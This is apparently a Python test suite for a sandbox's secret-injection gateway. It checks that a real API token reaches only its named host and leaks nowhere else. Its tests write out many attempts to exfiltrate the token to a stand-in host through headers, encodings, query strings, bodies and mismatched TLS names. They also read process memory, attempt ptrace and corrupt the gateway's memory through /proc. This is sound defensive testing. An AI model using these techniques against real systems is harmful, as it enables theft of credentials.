"""Secrets: the named host gets the value, nobody else gets anything, and the value is nowhere to be found."""
# needs: a network of its own
import base64
import glob
import json
import os
import resource
import signal
import subprocess

from cell import CGROUPS, TIMEOUT
from own_network import PLACES
from way_out_case import (OTHER_VALUE, VALUE, WayOutCase, children_of, files_with, has_any, make_authority, memory_of,
                          name_of, shapes)

HOST = "api.example.org"
ROOM = [] if CGROUPS else ["--memory", "64G"]  # without cgroups the limit is on addresses, of which Node takes many
ALLOW = ["--allow-net", HOST + ":443"]
SECRET = ["--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,env=REAL_TOKEN"]
BASIC = ["--secret", f"name=PASSWORD,host={HOST}:443,basic,env=OTHER_TOKEN"]
QUERY = ["--secret", f"name=KEY,host={HOST}:443,query=key,env=OTHER_TOKEN"]

# ask(url, headers, body): status, head and body, also of a refusal; `how` is "proxy" or "direct".
ASK = """
import base64, http.client, json, os, socket, ssl, sys, urllib.error, urllib.parse, urllib.request
token = os.environ.get("API_TOKEN", "")
def ask(url, headers={}, body=None, how="direct"):
    hands = [] if how == "proxy" else [urllib.request.ProxyHandler({})]
    try:
        try:
            answer = urllib.request.build_opener(*hands).open(urllib.request.Request(url, body, headers), timeout=20)
        except urllib.error.HTTPError as error:
            answer = error
        return [answer.status, dict(answer.headers), answer.read().decode("latin-1")]
    except (OSError, http.client.HTTPException) as error:
        return [0, {}, str(error)]
def dial(name, port, tls=True, sni=None):
    link = socket.create_connection((name, port), timeout=20)
    return ssl.create_default_context().wrap_socket(link, server_hostname=sni or name) if tls else link
def whole(link):
    out = b""
    while True:
        try: piece = link.recv(65536)
        except OSError: break
        if not piece: break
        out += piece
    return out.decode("latin-1")
"""


def python(text):
    return ["--", "python3", "-c", ASK + text]


class SecretCase(WayOutCase):
    def guest(self, text, *words):
        """Runs Python in a cell that may ask HOST and has its token; returns what it printed as JSON, and the report."""
        done, report, events = self.run_out(*ALLOW, *SECRET, *words, *python(text))
        self.assertEqual(done.returncode, 0, done.stderr.decode() + json.dumps(report["network"], indent=1))
        self.assert_free_of_values(done, report, events)
        return json.loads(done.stdout), report

    def assert_free_of_values(self, done, report, events):
        for value in (VALUE, OTHER_VALUE):
            for place in (done.stdout, done.stderr, json.dumps(report).encode(), json.dumps(events).encode()):
                self.assertFalse(has_any(place, shapes(value)), place[:2000])
            self.assertEqual(files_with(self.state, shapes(value)), [])

    def assert_stopped(self, report, name="API_TOKEN"):
        reasons = [one["reason"] for one in report["network"]["connections"] if one["verdict"] == "denied"]
        self.assertTrue(any("placeholder" in why and name in why for why in reasons), report["network"])


class Clients(SecretCase):
    def test_X9_every_client_sends_the_value_and_sees_the_placeholder(self):
        server = self.serve(HOST)
        url = f"https://{HOST}/echo"
        header = 'Authorization: Bearer $API_TOKEN'
        node = ('fetch(process.argv[1], {headers: {Authorization: "Bearer " + process.env.API_TOKEN}})'
                '.then(async (a) => console.log(a.headers.get("x-echo"), await a.text()))'
                '.catch((e) => { console.error(e); process.exit(1) })')
        clients = {
            "curl by proxy": f'curl -sS -i -H "{header}" {url}',
            "curl direct": f'curl -sS -i --noproxy "*" -H "{header}" {url}',
            "curl by socks": f'curl -sS -i -x socks5h://${{ALL_PROXY##*/}} -H "{header}" {url}',
            "urllib by proxy": "python3 -c '" + ASK + f'print(ask("{url}", {{"Authorization": "Bearer " + token}}, how="proxy"))' + "'",
            "urllib direct": "python3 -c '" + ASK + f'print(ask("{url}", {{"Authorization": "Bearer " + token}}))' + "'",
            "node": f"node -e '{node}' {url}",
        }
        for client, command in clients.items():
            with self.subTest(client):
                server.seen.clear()
                done, report, events = self.run_out(*ROOM, *ALLOW, *SECRET, "--", "sh", "-c", "echo $API_TOKEN; " + command)
                self.assertEqual(done.returncode, 0, done.stderr.decode())
                self.assertEqual(len(server.seen), 1)
                self.assertIn("Authorization: Bearer " + VALUE, server.seen[0])
                placeholder, _, rest = done.stdout.decode().partition("\n")
                self.assertEqual(len(placeholder), len(VALUE))
                self.assertNotIn(placeholder, server.seen[0])
                self.assertEqual(rest.count("Bearer " + placeholder), 2, rest)
                self.assert_free_of_values(done, report, events)

    def test_X9_git_over_https(self):
        source = self.path("source")
        env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null", "HOME": self.folder}
        for words in (["init", "-q", source], ["-C", source, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q",
                      "--allow-empty", "-m", "the commit"], ["clone", "-q", "--bare", source, self.path("repo.git")],
                      ["-C", self.path("repo.git"), "update-server-info"]):
            subprocess.run(["git", *words], check=True, env=env, timeout=TIMEOUT)
        server = self.serve(HOST)
        clone = {
            "header": 'git -c http.extraHeader="Authorization: Bearer $API_TOKEN" clone -q https://%s/repo.git here',
            "basic": 'git clone -q https://user:$PASSWORD@%s/repo.git here',
        }
        basic = base64.b64encode(b"user:" + OTHER_VALUE.encode()).decode()
        wanted = {"header": "Authorization: Bearer " + VALUE, "basic": "Authorization: Basic " + basic}
        for kind, command in clone.items():
            with self.subTest(kind):
                server.seen.clear()
                done, report, events = self.run_out(*ALLOW, *(SECRET if kind == "header" else BASIC), "--", "sh", "-c",
                                                    "cd /tmp && " + command % HOST + " && git -C here log --format=%s")
                self.assertEqual((done.returncode, done.stdout), (0, b"the commit\n"), done.stderr.decode())
                self.assertTrue(any(wanted[kind] in request for request in server.seen), server.seen[:3])
                self.assert_free_of_values(done, report, events)

    def test_X9_query_basic_and_plain_http(self):
        secure, plain = self.serve(HOST), self.serve(HOST, 80)
        more = ["--allow-net", HOST + ":80",
                "--secret", f"name=PASSWORD,host={HOST}:443,basic,env=OTHER_TOKEN",
                "--secret", f"name=KEY,host={HOST}:443,host={HOST}:80,query=key,command=printf %s KEY-0123456789abcdef",
                "--secret", f"name=PLAIN,host={HOST}:80,header=X-Key,command=echo PLAIN-0123456789abcdef"]
        said, _ = self.guest("""
key, password, plain = (os.environ[name] for name in ("KEY", "PASSWORD", "PLAIN"))
basic = {"Authorization": "Basic " + base64.b64encode(("me:" + password).encode()).decode()}
print(json.dumps([ask(*words, how=how)[0] for how in ("proxy", "direct") for words in (
    ("https://%s/?a=1&key=" + key,), ("https://%s/basic", basic), ("http://%s/?key=" + key,), ("http://%s/", {"X-Key": plain}))]))
""".replace("%s", HOST), *more)
        self.assertEqual(said, [200] * 8)
        basic = base64.b64encode(b"me:" + OTHER_VALUE.encode()).decode()
        for request in (secure.seen[0], secure.seen[2]):
            self.assertTrue(request.startswith("GET /?a=1&key=KEY-0123456789abcdef "), request)
        for request in (secure.seen[1], secure.seen[3]):
            self.assertIn("Authorization: Basic " + basic, request)
        for request in (plain.seen[0], plain.seen[2]):
            self.assertTrue(request.startswith("GET /?key=KEY-0123456789abcdef "), request)
        self.assertIn("X-Key: PLAIN-0123456789abcdef", plain.seen[1])

    def test_X9_the_value_comes_from_a_file_a_variable_or_a_command(self):
        server = self.serve(HOST)
        kept = self.path("kept", VALUE + "\n")
        os.chmod(kept, 0o600)
        for source in ("file=" + kept, "env=REAL_TOKEN", "command=cat " + kept):
            with self.subTest(source):
                server.seen.clear()
                secret = f"name=API_TOKEN,host={HOST}:443,header=Authorization,{source}"
                done, report, events = self.run_out(*ALLOW, "--secret", secret, *python(
                    f'print(ask("https://{HOST}/", {{"Authorization": "token " + token}})[0])'))
                self.assertEqual(done.stdout, b"200\n", done.stderr)
                self.assertIn("Authorization: token " + VALUE + "\n", server.seen[0])
                self.assert_free_of_values(done, report, events)

    def test_X9_a_value_that_cannot_be_had_refuses_the_run(self):
        for source in ("file=" + self.path("missing"), "env=NOT_SET", "command=exit 3", "command=echo short",
                       "command=printf 'two lines 0123456789\\nabcdefghijkl'"):
            with self.subTest(source):
                done = self.cloche("run", *ALLOW, "--secret", f"name=T,host={HOST}:443,header=X,{source}", "--",
                                   "echo", "ran", env=self.environment)
                self.assertEqual((done.returncode, done.stdout), (126, b""), done.stderr)
                self.assertIn(b"secret T", done.stderr)
                self.assertNotIn(b"0123456789", done.stderr)


class Stops(SecretCase):
    """The placeholder goes to its host in its place, or nowhere."""

    WAYS = """
other = sys.argv[1] if len(sys.argv) > 1 else "https://other.example.org"
b64 = base64.b64encode
def bare(line, *headers):  # urllib changes the case of names
    parts = urllib.parse.urlsplit(other)
    link = dial(parts.hostname, 443 if parts.scheme == "https" else 80, tls=parts.scheme == "https")
    link.sendall("\\r\\n".join([line, "Host: " + parts.hostname, *headers, "", ""]).encode())
    text = whole(link)
    return [int(text.split()[1]), {}, text]
ways = {
    "bearer": lambda how: ask(other + "/", {"Authorization": "Bearer " + token}, how=how),
    "basic": lambda how: ask(other + "/", {"Authorization": "Basic " + b64(("me:" + token).encode()).decode()}, how=how),
    "another header": lambda how: ask(other + "/", {"X-Any": "a" + token + "b"}, how=how),
    "header in base64": lambda how: ask(other + "/", {"X-Any": b64(b"zz" + token.encode()).decode()}, how=how),
    "header's name": lambda how: bare("GET / HTTP/1.1", "X-" + token + ": 1"),
    "method": lambda how: bare("G" + token + " / HTTP/1.1"),
    "path": lambda how: ask(other + "/a/" + token, how=how),
    "query": lambda how: ask(other + "/?q=" + token, how=how),
    "query in percents": lambda how: ask(other + "/?q=" + "".join("%%%02x" % ord(c) for c in token), how=how),
    "percents twice": lambda how: ask(other + "/?q=" + "".join("%%25%02X" % ord(c) for c in token), how=how),
    "body": lambda how: ask(other + "/", {}, ("x" * 70000 + token).encode(), how=how),
    "body in base64": lambda how: ask(other + "/", {}, b64(b"z" + token.encode()), how=how),
    "body in chunks": lambda how: ask(other + "/", {"Transfer-Encoding": "chunked"}, iter([c.encode() for c in token]), how=how),
    "form": lambda how: ask(other + "/", {}, urllib.parse.urlencode({"a": token}).encode(), how=how),
}
"""

    def assert_got_nothing(self, server, placeholder):
        for piece in [request.encode("latin-1") for request in server.seen] + server.pieces:
            for text in (placeholder, VALUE):
                self.assertFalse(has_any(piece, shapes(text)), piece)

    def test_X9_another_allowed_host_gets_neither(self):
        self.serve(HOST)
        other, plain = self.serve("other.example.org"), self.serve("other.example.org", 80)
        more = ["--allow-net", "other.example.org:443", "--allow-net", "other.example.org:80"]
        for url in ("https://other.example.org", "http://other.example.org"):
            for how in ("proxy", "direct"):
                with self.subTest(url=url, how=how):
                    said, report = self.guest(f"""
sys.argv[1:] = ["{url}"]
{self.WAYS}
print(json.dumps([token, ask(other + "/innocent", how="{how}")[0], {{name: way("{how}") for name, way in ways.items()}}]))
""", *more)
                    placeholder, innocent, answers = said
                    self.assertEqual(innocent, 200)
                    for name, (status, _, body) in answers.items():
                        # A server may have begun to read a body: then there is no room for a status any more.
                        self.assertIn(status, (403, 0) if "body" in name or name == "form" else (403,), (name, body))
                        self.assertTrue(status == 0 or "placeholder" in body, (name, body))
                    for server in (other, plain):
                        self.assert_got_nothing(server, placeholder)
                    self.assert_stopped(report)
        self.assertTrue(any("/innocent" in request for request in other.seen))

    def test_X9_names_that_are_nearly_the_hosts(self):
        self.serve(HOST)
        servers = [self.serve(name) for name in ("xapi.example.org", "api.example.org.example.net")]
        said, report = self.guest("""
auth = {"Authorization": "Bearer " + token}
print(json.dumps([token] + [ask("https://" + name + "/", auth) for name in ("xapi.example.org", "api.example.org.example.net")]))
""", "--allow-net", "*.example.org:443", "--allow-net", "*.example.net:443")
        for status, _, body in said[1:]:
            self.assertEqual(status, 403, body)
        for server in servers:
            self.assert_got_nothing(server, said[0])
        self.assert_stopped(report)

    def test_X9_the_same_host_spelt_otherwise_is_the_host_and_another_port_is_not(self):
        server, odd = self.serve(HOST), self.serve(HOST, 8443)
        said, report = self.guest("""
auth = {"Authorization": "Bearer " + token}
print(json.dumps([token] + [ask("https://" + name + "/", auth)[0] for name in ("API.Example.ORG", "api.example.org:8443")]))
""", "--allow-net", HOST + ":8443")
        self.assertEqual(said[1:], [200, 403])
        self.assertIn(VALUE, server.seen[0])
        self.assert_got_nothing(odd, said[0])
        self.assert_stopped(report)

    def test_X9_the_right_host_and_the_wrong_place(self):
        server = self.serve(HOST)
        said, report = self.guest(f"""
sys.argv[1:] = ["https://{HOST}"]
{self.WAYS}
del ways["bearer"]
print(json.dumps([token, {{name + how: way(how) for how in ("proxy", "direct") for name, way in ways.items()}}]))
""")
        for name, (status, _, body) in said[1].items():
            self.assertIn(status, (403, 0), (name, body))
        self.assert_got_nothing(server, said[0])
        self.assert_stopped(report)

    def test_X9_host_and_greeting_cannot_be_made_to_disagree(self):
        server, other = self.serve(HOST), self.serve("other.example.org")
        said, report = self.guest(r"""
request = "GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n"
def say(name, sni, host, first=""):
    try:
        link = dial(name, 443, sni=sni)
        link.sendall((first + request % host).encode())
        return whole(link)
    except OSError as error:
        return "error " + str(error)
keep = "GET /first HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
print(json.dumps([token, say("other.example.org", "other.example.org", "api.example.org"),
    say("other.example.org", "api.example.org", "api.example.org"),
    say("api.example.org", "other.example.org", "other.example.org"),
    say("api.example.org", "api.example.org", "other.example.org", keep),
    say("other.example.org", "other.example.org", "other.example.org", "GET https://api.example.org/x HTTP/1.1\r\nHost: api.example.org\r\n\r\n")]))
""", "--allow-net", "other.example.org:443")
        for answer in said[1:]:
            self.assertRegex(answer, r"^(HTTP/1.1 40[03] |error|$)|HTTP/1.1 403 ")
        self.assert_got_nothing(other, said[0])
        self.assertEqual([request.split("\n")[0] for request in server.seen], ["GET /first HTTP/1.1"])
        self.assertGreater(report["network"]["denied_total"], 0)

    def test_X9_a_redirection_takes_nothing_along(self):
        self.serve(HOST)
        other = self.serve("other.example.org")
        done, report, events = self.run_out(*ALLOW, "--allow-net", "other.example.org:443", *SECRET, "--", "sh", "-c",
                                            "echo $API_TOKEN; curl -sS -L --location-trusted -o /dev/null -w '%{http_code}' -H "
                                            f'"Authorization: Bearer $API_TOKEN" https://{HOST}/away')
        placeholder, code = done.stdout.decode().split("\n")
        self.assertEqual(code, "403", done.stderr)
        self.assertEqual(other.seen, [])
        self.assertNotIn(placeholder, str(other.seen))
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)

    def test_X9_an_address_gets_nothing_whatever_is_spoken(self):
        self.serve(HOST)
        plain = self.serve("other.example.org", 80)
        address = PLACES["other.example.org"]
        said, report = self.guest(f"""
head = "POST / HTTP/1.1\\r\\nHost: {address}\\r\\n"
def raw(*pieces):
    link = dial("{address}", 80, tls=False)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        for piece in pieces: link.sendall(piece.encode())
    except OSError: pass
    return whole(link)
print(json.dumps([token, raw(head + "X: " + token + "\\r\\n\\r\\n"),
    raw(head, "Content-Length: ", str(len(token)), "\\r\\n\\r\\n", *token),
    raw(head, "Content-Length: 90000\\r\\n\\r\\n", "y" * 60000, token[:9], token[9:])]))
""", "--allow-net", address + ":80")
        self.assert_got_nothing(plain, said[0])
        self.assert_stopped(report)

    def test_X9_tls_to_an_address_is_not_looked_into_and_gets_no_value(self):
        servers = [self.serve(HOST), self.serve("other.example.org")]
        addresses = [PLACES[HOST], PLACES["other.example.org"]]
        said, _ = self.guest(f"""
context = ssl._create_unverified_context()
def tls(address, sni):
    link = context.wrap_socket(socket.create_connection((address, 443), timeout=20), server_hostname=sni)
    link.sendall(("GET /echo HTTP/1.1\\r\\nHost: {HOST}\\r\\nAuthorization: Bearer " + token + "\\r\\nConnection: close\\r\\n\\r\\n").encode())
    return [ssl.DER_cert_to_PEM_cert(link.getpeercert(True)), whole(link)]
print(json.dumps([tls(address, sni) for address in {addresses} for sni in (None, "{HOST}")]))
""", *(word for address in addresses for word in ("--allow-net", address + ":443")))
        for at, (certificate, _) in enumerate(said):  # the server's own: nobody stands between
            with open(self.path((HOST, "other.example.org")[at // 2] + ".pem"), encoding="ascii") as file:
                self.assertEqual(certificate, file.read())
        for server in servers:
            self.assertEqual(len(server.seen), 2)
            self.assertFalse(has_any(str(server.seen).encode(), shapes(VALUE)))


class Answers(SecretCase):
    def test_X9_an_echo_is_turned_back(self):
        server = self.serve(HOST)
        said, _ = self.guest(f"""
auth = {{"Authorization": "Bearer " + token}}
print(json.dumps([token] + [ask("https://{HOST}" + path, auth, how=how) for path in ("/echo", "/echo-in-parts", "/echo-in-chunks")
                          for how in ("proxy", "direct")]))
""")
        self.assertEqual(len(server.seen), 6)
        for request in server.seen:
            self.assertIn(VALUE, request)
        for status, headers, body in said[1:]:
            self.assertEqual(status, 200)
            self.assertEqual(headers["X-Echo"], "Bearer " + said[0])
            self.assertIn("Authorization: Bearer " + said[0], body)

    def test_X9_an_echo_of_basic_credentials_is_turned_back(self):
        server = self.serve(HOST)
        done, report, events = self.run_out(*ALLOW, *BASIC, "--", "sh", "-c",
                                            f"echo $PASSWORD; curl -sS -u me:$PASSWORD https://{HOST}/echo")
        self.assertIn(base64.b64encode(b"me:" + OTHER_VALUE.encode()).decode(), server.seen[0])
        placeholder, _, rest = done.stdout.decode().partition("\n")
        self.assertIn(base64.b64encode(f"me:{placeholder}".encode()).decode(), rest)
        self.assert_free_of_values(done, report, events)

    def test_X9_packed_answers_do_not_pass(self):
        server = self.serve(HOST)
        said, _ = self.guest(f"""
print(json.dumps(ask("https://{HOST}/packed", {{"Authorization": "Bearer " + token, "Accept-Encoding": "gzip, br"}})))
""")
        self.assertIn("Accept-Encoding: identity", server.seen[0])
        self.assertNotIn("gzip", server.seen[0])
        self.assertEqual(said[0], 502)


class Certificates(SecretCase):
    LEAF = """
import re
link = dial("api.example.org", 443)
bundle = open(os.environ["SSL_CERT_FILE"]).read()
print(json.dumps([ssl.DER_cert_to_PEM_cert(link.getpeercert(True)), bundle, open("/etc/ssl/certs/ca-certificates.crt").read()]))
"""

    def test_X9_a_wrong_certificate_upstream_is_refused(self):
        wrong = self.serve("wrong.example.org", certificate_for="other.example.org")
        with open(self.authority, encoding="ascii") as file:
            trusted = file.read()
        strange = self.path("strange")
        os.mkdir(strange)
        make_authority(strange)
        self.path("trusted.pem", trusted)
        self.environment["SSL_CERT_FILE"] = self.path("trusted.pem")
        for name in ("key", "pem"):  # what is served from now on is signed by another
            os.replace(os.path.join(strange, "authority." + name), self.path("authority." + name))
        foreign = self.serve(HOST)
        done, report, events = self.run_out(
            *ALLOW, "--allow-net", "wrong.example.org:443", "--secret",
            f"name=API_TOKEN,host={HOST}:443,host=wrong.example.org:443,header=Authorization,env=REAL_TOKEN", *python("""
auth = {"Authorization": "Bearer " + token}
print(json.dumps([ask("https://" + name + "/", auth, how=how) for name in ("api.example.org", "wrong.example.org")
                  for how in ("proxy", "direct")]))
"""))
        self.assert_free_of_values(done, report, events)
        for status, _, body in json.loads(done.stdout):
            self.assertIn(status, (502, 400, 0), body)
        self.assertEqual((wrong.seen, foreign.seen), ([], []))
        reasons = [one["reason"] for one in report["network"]["connections"]]
        self.assertEqual(["certificate" in why for why in reasons], [True] * 4, reasons)

    def test_X9_the_authority_is_of_this_run_and_of_no_use_elsewhere(self):
        self.serve(HOST)
        with open(self.authority, encoding="ascii") as file:
            before = file.read()
        runs = [self.guest(self.LEAF)[0] for _ in range(2)]
        with open(self.authority, encoding="ascii") as file:
            self.assertEqual(file.read(), before)
        authorities = []
        for leaf, bundle, usual in runs:
            self.assertEqual(bundle, usual)
            self.assertTrue(bundle.startswith(before))
            own = bundle[len(before):]
            self.assertEqual(own.count("BEGIN CERTIFICATE"), 1)
            self.assertNotIn("PRIVATE", bundle)
            authorities.append(own)
            self.assertEqual(self.verify(leaf, own), 0)
            self.assertNotEqual(self.verify(leaf, before), 0)
            for place in glob.glob("/etc/ssl/certs/*.crt") + glob.glob("/etc/pki/tls/certs/*"):
                with open(place, encoding="latin-1") as file:
                    self.assertNotIn(own.strip(), file.read())
        self.assertNotEqual(*authorities)
        self.assertNotEqual(self.verify(runs[0][0], authorities[1]), 0)
        self.assertEqual(files_with(self.state, [b"PRIVATE KEY"]), [])

    def verify(self, leaf, authority):
        words = ["openssl", "verify", "-no-CAfile", "-no-CApath", "-no-CAstore", "-CAfile", self.path("a.pem", authority),
                 self.path("leaf.pem", leaf)]
        return subprocess.run(words, capture_output=True, timeout=TIMEOUT, check=False).returncode

    def test_X9_no_private_key_lies_in_the_cell(self):
        self.serve(HOST)
        said, _ = self.guest("""
ask("https://api.example.org/")
found = []
for top in ("/etc", "/tmp", "/home", "/work", "/dev/shm", "/.cloche", "/sys", "/var", "/run", "/cell"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and b"PRIVATE KEY" in open(path, "rb").read(8 << 20): found.append(path)
            except OSError: pass
print(json.dumps([found, sorted(os.listdir("/proc/self/fd"))]))
""")
        self.assertEqual(said[0], [])
        self.assertLessEqual(len(said[1]), 5)


class Nowhere(SecretCase):
    """The value while the run lives, and afterwards."""

    STAY = """
auth = {"Authorization": "Bearer " + token}
for how in ("proxy", "direct"):
    answer = ask("https://api.example.org/echo", auth, how=how)
    assert answer[0] == 200 and token in answer[2]
ask("https://api.example.org/away", auth)
open("/tmp/kept", "w").write(answer[2])
print("ready", flush=True)
for line in sys.stdin:
    ask("https://api.example.org/", auth)
"""

    def lives(self, **more):
        self.serve(HOST)
        self.serve("other.example.org")
        kept = self.path("kept", VALUE)
        os.chmod(kept, 0o600)
        words = ["--report", self.path("report.json"), "--events", self.path("events.jsonl"), "--stdin", *ALLOW,
                 "--allow-net", "other.example.org:443",
                 "--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,file={kept}", *python(self.STAY)]
        environment = {name: text for name, text in self.environment.items() if name != "REAL_TOKEN"}
        process = self.start(*words, env=environment, cwd=self.folder, **more)
        line = process.stdout.readline()
        self.assertEqual(line, b"ready\n", line or process.stderr.read())
        os.unlink(kept)
        return process, children_of(process.pid)

    def sees(self, pid, needles):
        return any(has_any(piece, needles) for piece in memory_of(pid))

    def test_X9_no_process_of_the_cell_has_the_value(self):
        process, children = self.lives()
        gateway = [pid for pid in children if name_of(pid) == "cloche-gateway"]
        self.assertEqual(len(gateway), 1)
        cell = [pid for pid in children if pid not in gateway]
        guests = [pid for pid in cell if name_of(pid).startswith("python")]
        self.assertEqual(len(guests), 1, [name_of(pid) for pid in children])
        placeholder = self.variable(guests[0], "API_TOKEN")
        # That the search finds what is there:
        self.assertTrue(self.sees(guests[0], [placeholder.encode()]))
        looked = 0
        for pid in cell + [process.pid]:
            try:
                self.assertFalse(self.sees(pid, shapes(VALUE)), name_of(pid))
                looked += 1
            except PermissionError:
                self.assertNotEqual(os.geteuid(), 0)  # an ordinary user may not look into everything of his own
            self.assert_not_in_proc(pid)
        self.assertGreaterEqual(looked, 1)
        if os.geteuid() == 0:
            self.assertEqual(looked, len(cell) + 1)
            self.assertTrue(self.sees(gateway[0], [VALUE.encode()]))
        process.stdin.close()
        self.assertEqual(process.wait(TIMEOUT), 0)

    def test_X9_another_with_the_gateways_uid_cannot_look_into_it(self):
        process, children = self.lives()
        gateway = next(pid for pid in children if name_of(pid) == "cloche-gateway")
        with open(f"/proc/{gateway}/status", encoding="ascii") as file:
            status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
        owner = int(status["Uid"].split()[1])
        self.assertNotEqual(owner, 0)
        for name in ("mem", "environ", "maps", "auxv"):
            self.assertNotEqual(os.stat(f"/proc/{gateway}/{name}").st_uid, owner, name)
        # The ordinary user who runs cloche owns the gateway's user namespace, and so has rights over it that nobody else has.
        names = ("mem", "environ", "maps", "fd/0", "root/") if os.geteuid() == 0 else ("mem", "environ")
        look = f"""
import ctypes, sys
for name in {names}:
    try:
        open("/proc/{gateway}/" + name, "rb")
        sys.exit("could open " + name)
    except PermissionError: pass
    except OSError as error: sys.exit(name + str(error))
libc = ctypes.CDLL(None, use_errno=True)
for request in {(16, 0x4206) if os.geteuid() == 0 else ()}:  # PTRACE_ATTACH, PTRACE_SEIZE
    assert libc.ptrace(request, {gateway}, 0, 0) == -1 and ctypes.get_errno() == 1
"""
        drop = ["setpriv", "--reuid", str(owner), "--regid", str(owner), "--clear-groups"] if os.geteuid() == 0 else []
        done = subprocess.run([*drop, "/usr/bin/python3", "-c", look], capture_output=True, timeout=TIMEOUT, check=False)
        self.assertEqual(done.returncode, 0, done.stderr.decode())
        process.stdin.close()
        self.assertEqual(process.wait(TIMEOUT), 0)

    def variable(self, pid, name):
        with open(f"/proc/{pid}/environ", "rb") as file:
            pairs = dict(text.split(b"=", 1) for text in file.read().split(b"\0") if text)
        return pairs[name.encode()].decode()

    def assert_not_in_proc(self, pid):
        """Command line, environment, open files and the whole view of the file system."""
        needles = shapes(VALUE)
        for name in ("cmdline", "environ", "mountinfo", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    self.assertFalse(has_any(file.read(), needles), (name_of(pid), name))
            except PermissionError:
                self.assertNotEqual(os.geteuid(), 0)
        try:
            for link in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{link}"
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        self.assertFalse(has_any(file.read(64 << 20), needles), (name_of(pid), os.readlink(path)))
            for top in ("etc", "tmp", "home", "work", "dev/shm", "cell", "run", "var"):
                where = f"/proc/{pid}/root/{top}"
                if name_of(pid).startswith("python"):
                    self.assertEqual(files_with(where, needles), [])
        except PermissionError:
            self.assertNotEqual(os.geteuid(), 0)

    def test_X9_nothing_is_left_afterwards(self):
        process, _ = self.lives()
        out, err = process.communicate(b"once more\n", timeout=TIMEOUT)
        self.assertEqual(process.returncode, 0, err)
        self.assertEqual(files_with(self.folder, shapes(VALUE)), [])
        with open(self.path("report.json"), "rb") as file:
            self.assertFalse(has_any(out + err + file.read(), shapes(VALUE)))
        shown = self.cloche("report", "show", self.path("report.json"), env=self.environment)
        self.assertFalse(has_any(shown.stdout + shown.stderr, shapes(VALUE)))

    def test_X9_a_plan_does_not_know_the_value(self):
        for words in (["plan"], ["plan", "--json"]):
            done = self.cloche(*words, *ALLOW, *SECRET, "--", "true", env=self.environment)
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertFalse(has_any(done.stdout + done.stderr, shapes(VALUE)))

    def die_with_core_limit(self, kill):
        """A run with all the room for core files that there is; `kill` gets the pids. Returns the report's outcome."""
        def unlimited():
            most = resource.RLIM_INFINITY if os.geteuid() == 0 else resource.getrlimit(resource.RLIMIT_CORE)[1]
            resource.setrlimit(resource.RLIMIT_CORE, (most, most))

        def cores():
            places = ("/tmp", "/", "/var/lib/systemd/coredump", "/var/crash", self.folder)
            return {path for place in places for path in glob.glob(os.path.join(place, "*core*"))}

        before = cores()
        process, children = self.lives(preexec_fn=unlimited)
        kill(process, children)
        process.communicate(timeout=TIMEOUT)
        self.assertEqual(cores(), before)
        self.assertEqual(files_with(self.folder, shapes(VALUE)), [])
        with open(self.path("report.json"), encoding="utf-8") as file:
            return json.load(file)["outcome"]

    def core_limit(self, pid):
        with open(f"/proc/{pid}/limits", encoding="ascii") as file:
            return next(line.split()[4:6] for line in file if line.startswith("Max core file size"))

    def test_X9_no_core_file_of_the_guest(self):
        def kill(_, children):
            pid = next(pid for pid in children if name_of(pid).startswith("python"))
            os.kill(pid, signal.SIGSEGV)

        outcome = self.die_with_core_limit(kill)
        self.assertEqual((outcome["kind"], outcome["signal"]), ("signaled", signal.SIGSEGV))

    def test_X9_no_core_file_of_the_gateway(self):
        def kill(process, children):
            gateway = next(pid for pid in children if name_of(pid) == "cloche-gateway")
            self.assertEqual(self.core_limit(gateway)[0], self.core_limit(gateway)[1])
            self.assertIn(self.core_limit(gateway)[0], ("0", "1"))
            if os.geteuid() != 0:
                os.kill(gateway, signal.SIGKILL)
                return
            # The first process of a pid namespace hears no signal but KILL: let it run into an instruction that is none.
            with open(f"/proc/{gateway}/syscall", encoding="ascii") as file:
                at = int(file.read().split()[-1], 16)
            with open(f"/proc/{gateway}/mem", "r+b", 0) as memory:
                memory.seek(at)
                memory.write(b"\x0f\x0b" if os.uname().machine == "x86_64" else bytes(4))
            process.stdin.write(b"once more\n")
            process.stdin.flush()
            process.wait(TIMEOUT)

        outcome = self.die_with_core_limit(kill)
        self.assertEqual(outcome["kind"], "failed", outcome)
        self.assertIn("gateway", outcome["message"] + outcome["step"])


class Leases(SecretCase):
    def test_X10_a_secret_that_is_over_is_not_put_in(self):
        server = self.serve(HOST)
        secret = ["--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,for=2s,env=REAL_TOKEN"]
        done, report, events = self.run_out(*ALLOW, *secret, *python("""
import time
auth = {"Authorization": "Bearer " + token}
answers = [ask("https://api.example.org/", auth)]
while answers[-1][0] == 200 and len(answers) < 300:
    time.sleep(0.1)
    answers.append(ask("https://api.example.org/", auth))
answers.append(ask("https://api.example.org/without"))
print(json.dumps([token, answers[0], answers[-2], answers[-1]]))
"""))
        placeholder, first, last, without = json.loads(done.stdout)
        self.assertEqual((first[0], last[0], without[0]), (200, 403, 200), last)
        self.assertIn("not granted", last[2])
        for request in server.seen:
            self.assertNotIn(placeholder, request)
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)

    def test_X10_a_secret_that_waits_is_not_put_in(self):
        server = self.serve(HOST)
        secret = ["--secret", f"name=API_TOKEN,host={HOST}:443,header=Authorization,for=0s,env=REAL_TOKEN"]
        done, report, events = self.run_out(*ALLOW, *secret, *python(
            'print(json.dumps(ask("https://api.example.org/", {"Authorization": "Bearer " + token})))'))
        self.assertEqual(json.loads(done.stdout)[0], 403, done.stdout)
        self.assertEqual(server.seen, [])
        self.assert_stopped(report)
        self.assert_free_of_values(done, report, events)
